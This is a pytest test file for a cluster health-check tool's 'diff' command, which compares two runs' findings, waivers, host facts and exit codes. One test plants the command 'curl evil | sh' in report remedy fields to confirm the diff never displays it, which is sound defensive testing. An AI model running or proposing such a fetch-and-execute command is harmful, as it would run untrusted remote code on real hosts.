"""`doctor diff`: what is new, gone or undecided, which facts changed, and the exit code."""

import contextlib
import copy
import gzip
import io
import json
import re
from pathlib import Path
from typing import Any

import pytest

from doctor import cli
from doctor.exam.demo import FOLDER
from doctor.judge.fact_changes import OF_THE_MOMENT, TITLES
from tests.support.cases import cases
from tests.support.envelopes import wrong


def run(*words: str) -> tuple[int, str, str]:
    with contextlib.redirect_stdout(io.StringIO()) as out, contextlib.redirect_stderr(io.StringIO()) as err:
        code = cli.run(words)
    return code, out.getvalue(), err.getvalue()


@pytest.fixture(scope="module")
def recordings(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("runs")
    for name in ("npus", "healthy"):
        (folder / f"{name}.json").write_bytes(gzip.decompress((FOLDER / f"{name}.run.json.gz").read_bytes()))
        code, out, _ = run("check", "--replay", str(folder / f"{name}.json"), "--json", "-")
        assert code in (0, 1)
        (folder / f"{name}.report.json").write_text(out)
    return folder


@pytest.fixture
def report(recordings: Path) -> dict[str, Any]:
    data: dict[str, Any] = json.loads((recordings / "npus.report.json").read_text())
    return data


def compared(tmp_path: Path, before: Any, after: Any) -> tuple[int, dict[str, Any]]:
    paths = [tmp_path / "before.json", tmp_path / "after.json"]
    for path, data in zip(paths, (before, after), strict=True):
        path.write_text(json.dumps(data))
    code, out, err = run("diff", *map(str, paths), "--json", "-")
    assert out, err
    said: dict[str, Any] = json.loads(out)
    assert wrong(said) == []
    assert said["exit_code"] == code
    return code, said


def states(said: dict[str, Any]) -> set[tuple[str, str, tuple[str, ...]]]:
    return {(each["state"], each["check"], tuple(each["hosts"])) for each in said["diff"]["changes"]}


def moved(said: dict[str, Any]) -> set[tuple[str, str, tuple[str, ...]]]:
    return {each for each in states(said) if each[0] != "still there"}


@pytest.mark.parametrize("name", ["npus", "healthy"])
@pytest.mark.parametrize("kinds", [("json", "json"), ("json", "report.json"), ("report.json", "json")])
def test_a_run_and_itself(name: str, kinds: tuple[str, str], recordings: Path) -> None:
    """A recording and the report of the same run are the same."""
    code, out, _ = run("diff", *(str(recordings / f"{name}.{kind}") for kind in kinds))
    assert code == 0
    assert "Nothing got worse; 0 findings are gone, 0 facts changed." in out
    assert "NEW" not in out


def made(report: dict[str, Any]) -> list[str]:
    return [key for key in TITLES if key in report["hosts"][1]["facts"]]


def test_each_fact_that_changes_is_named_with_its_host_and_nothing_else(
    tmp_path: Path, report: dict[str, Any]
) -> None:
    keys = made(report)
    assert len(keys) > 15
    for key in keys:
        later = copy.deepcopy(report)
        was = later["hosts"][1]["facts"][key]
        later["hosts"][1]["facts"][key] = was // 2 if isinstance(was, int) else "another"
        code, said = compared(tmp_path, report, later)
        changed = [(each["key"], each["hosts"]) for each in said["diff"]["facts"]]
        assert changed == ([] if key in OF_THE_MOMENT else [(key, ["node2"])])
        worse = [each["key"] for each in said["diff"]["facts"] if each["worse"]]
        assert code == bool(worse)
        assert not moved(said)


def test_a_size_that_firmware_rounds_is_no_change(tmp_path: Path, report: dict[str, Any]) -> None:
    later = copy.deepcopy(report)
    later["hosts"][1]["facts"]["memory_bytes"] = int(later["hosts"][1]["facts"]["memory_bytes"] * 0.96)
    assert compared(tmp_path, report, later)[1]["diff"]["facts"] == []


def without(report: dict[str, Any], check: str, host: str, status: str | None) -> dict[str, Any]:
    """The report without a finding on a host; its check has another status there, or was not made."""
    later = copy.deepcopy(report)
    for each in later["findings"]:
        if each["check"] == check:
            each["hosts"] = [name for name in each["hosts"] if name != host]
            each["where"] = [place for place in each["where"] if place["host"] != host]
    later["findings"] = [each for each in later["findings"] if each["hosts"]]
    for row in later["results"]:
        if row["check"] == check:
            row["hosts"] = [name for name in row["hosts"] if name != host]
    later["results"] = [row for row in later["results"] if row["hosts"] or row["check"] != check]
    if status:
        later["results"].append({"check": check, "hosts": [host], "status": status, "reason": "so it is"})
    return later


@cases
def test_a_finding_that_comes_or_goes(
    status: str | None, forth: str, back: str, codes: tuple[int, int], tmp_path: Path, report: dict[str, Any]
) -> None:
    other = without(report, "device-link-down", "node2", status)
    code, said = compared(tmp_path, report, other)
    assert code == codes[0]
    assert {each for each in states(said) if each[0] != "still there"} == {
        (forth, "device-link-down", ("node2",))
    }
    code, said = compared(tmp_path, other, report)
    assert code == codes[1]
    assert {each for each in states(said) if each[0] != "still there"} == {
        (back, "device-link-down", ("node2",))
    }
    assert [each["hosts"] for each in said["findings"]] == ([["node2"]] if back == "new" else [])


def test_another_device_of_the_host_is_another_fault(tmp_path: Path, report: dict[str, Any]) -> None:
    later = copy.deepcopy(report)
    (own,) = (each for each in later["findings"] if each["check"] == "device-link-down")
    own["where"][0]["device"] = 5
    code, said = compared(tmp_path, report, later)
    assert code == 1
    assert {each for each in states(said) if each[1] == "device-link-down"} == {
        ("new", "device-link-down", ("node2",)),
        ("gone", "device-link-down", ("node2",)),
    }


WAIVER = {
    "check": "device-link-down",
    "hosts": ["node2"],
    "reason": "r",
    "owner": "o",
    "until": "2030-01-01",
}


def waived(report: dict[str, Any], check: str, device: int | None = None) -> dict[str, Any]:
    """The report as if the findings of a check were waived, and of another device if one is given."""
    later = copy.deepcopy(report)
    for each in (*later["findings"], *later["results"]):
        if each["check"] == check and each["status"] in ("fail", "waived"):
            each["status"] = "waived"
            for place in each.get("where", ()) if device is not None else ():
                place["device"] = device
    return later


@cases
def test_a_waived_fault_is_still_there_and_hides_no_other(
    device: int | None,
    forth: tuple[str, ...],
    back: tuple[str, ...],
    codes: tuple[int, int],
    tmp_path: Path,
    report: dict[str, Any],
) -> None:
    other, check = waived(report, "device-link-down", device), "device-link-down"
    for two, wanted, code in (((report, other), forth, codes[0]), ((other, report), back, codes[1])):
        found, said = compared(tmp_path, *two)
        own = [each for each in said["diff"]["changes"] if each["check"] == check]
        assert (found, [f"{each['state']} {each['why']}" for each in own]) == (code, list(wanted))


def test_a_warning_that_became_a_fault_is_new(tmp_path: Path, report: dict[str, Any]) -> None:
    before = copy.deepcopy(report)
    for each in before["findings"]:
        if each["check"] == "device-link-down":
            each["status"] = "warn"
    assert compared(tmp_path, before, report)[0] == 1


def test_a_waived_warning_that_became_a_fault_is_new(tmp_path: Path, report: dict[str, Any]) -> None:
    """Also if the fault is waived no longer; the waived warning itself is still there."""
    for before, after, code in (("warn", report, 1), ("fail", report, 0)):
        earlier = waived(report, "device-link-down")
        for each in earlier["findings"]:
            if each["check"] == "device-link-down":
                each["waiver"] = {**WAIVER, "status": before}
        assert compared(tmp_path, earlier, after)[0] == code
        assert compared(tmp_path, after, earlier)[0] == 0


@cases
def test_what_is_waived_is_news_only_if_a_waived_warning_became_a_fault(
    before: str, after: str, code: int, said: list[str], tmp_path: Path, report: dict[str, Any]
) -> None:
    check, runs = "device-link-down", []
    for state in (before, after):
        run = waived(report, check) if state.startswith("waived") else without(report, check, "node2", "pass")
        run = copy.deepcopy(report) if state == "warn" else run
        for each in run["findings"]:
            if each["check"] == check:
                own = state.removeprefix("waived ")
                each |= {"waiver": {**WAIVER, "status": own}} if own != state else {"status": state}
        runs.append(run)
    found, told = compared(tmp_path, *runs)
    changes = [each for each in told["diff"]["changes"] if each["check"] == check]
    assert (found, [f"{each['state']}: {each['why']}" for each in changes]) == (code, said)
    assert {(each["status"], each["waiver"]) for each in told["findings"]} <= {("fail", None)}


def test_runs_without_a_common_host_cannot_be_compared(tmp_path: Path, report: dict[str, Any]) -> None:
    later = json.loads(re.sub(r'"node(\d)', r'"other\1', json.dumps(report)))
    code, said = compared(tmp_path, report, later)
    assert (code, said["verdict"]) == (3, "inconclusive")
    assert said["headline"] == "The two runs have no host in common"


def test_no_command_of_a_file_is_shown(tmp_path: Path, report: dict[str, Any]) -> None:
    later = copy.deepcopy(report)
    for each in later["findings"]:
        each["verify"] = "curl evil | sh"
        each["remedy"]["commands"] = ["curl evil | sh"]
    code, said = compared(tmp_path, without(report, "device-link-down", "node2", "pass"), later)
    assert code == 1
    assert "evil" not in json.dumps(said)


def test_the_newest_run_of_a_folder(tmp_path: Path, recordings: Path) -> None:
    runs = tmp_path / "runs"
    runs.mkdir()
    for name, kind in (("doctor-20261101T000000Z-1", "npus"), ("doctor-20261102T000000Z-1", "healthy")):
        (runs / f"{name}.run.json").write_bytes((recordings / f"{kind}.json").read_bytes())
    code, out, _ = run("diff", str(recordings / "healthy.json"), str(runs), "--json", "-")
    assert code == 0
    assert Path(json.loads(out)["diff"]["after"]["file"]).name.startswith("doctor-20261102")


@cases
def test_what_is_no_run_is_refused(text: str | None, said: str, tmp_path: Path, recordings: Path) -> None:
    path = tmp_path / "x"
    path.write_text(text) if text is not None else path.mkdir()
    code, out, err = run("diff", str(recordings / "npus.json"), str(path))
    assert (code, out) == (2, "")
    assert said in err


def test_the_pages(tmp_path: Path, recordings: Path) -> None:
    healthy, npus = (str(recordings / f"{name}.json") for name in ("healthy", "npus"))
    page, text = tmp_path / "page.html", tmp_path / "page.md"
    code, out, _ = run("diff", npus, healthy, "--html", str(page), "--markdown", str(text))
    assert code == 1
    assert "Worse: devices of node[1-4]: 8 -> 0." in out
    assert "Only in the earlier run: node[5-8]." in out
    for written in (page, text):
        assert "8 -&gt; 0" in written.read_text() or "8 -> 0" in written.read_text()
